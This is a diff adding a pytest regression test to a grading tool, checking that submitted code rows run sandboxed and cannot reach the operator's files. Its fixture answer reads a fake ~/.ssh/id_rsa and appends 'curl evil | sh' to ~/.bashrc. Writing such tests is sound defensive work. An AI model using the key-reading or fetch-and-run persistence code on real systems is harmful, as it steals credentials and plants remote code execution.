@@ -133,3 +133,28 @@ async def test_long_files_report_progress_and_share_rubrics() -> None:
     results = await grade_rows(rows, LEXICAL, seen.append)
     assert sum(seen) == 150 and len(seen) == 3  # in batches
     assert len(results) == 150 and all(r.grade is not None for r in results)
+
+
+def test_code_rows_cannot_reach_the_operators_files(app: typer.Typer, tmp_path: Path,
+                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    """Review C4: grade-file ran candidates' code as the operator (it read ~/.ssh/id_rsa into
+    the output and appended to ~/.bashrc). Code rows now run in the sandbox."""
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    key = home / ".ssh" / "id_rsa"
+    key.write_text("-----BEGIN FAKE PRIVATE KEY-----\n")
+    monkeypatch.setenv("HOME", str(home))
+    steal = (f"def add(a, b):\n    try:\n        return open({str(key)!r}).read()\n"
+             f"    except OSError as e:\n        return str(e)\n"
+             f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh')\n")
+    src = write_csv(tmp_path / "in.csv", [
+        {"question": "Write add(a, b)", "reference_answer": "def add(a, b): return a + b",
+         "answer": steal, "kind": "code", "choices": "",
+         "tests": "- {name: adds, run: 'add(2, 3)', expect: 5}\n"}])
+    out = tmp_path / "out.csv"
+    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
+    assert res.exit_code == 0, res.output
+    text = out.read_text()
+    assert "FAKE PRIVATE KEY" not in text and "FAKE PRIVATE KEY" not in res.output
+    assert not (home / ".bashrc").exists()
+    assert read_csv(out)[0]["verdict"] == "wrong"
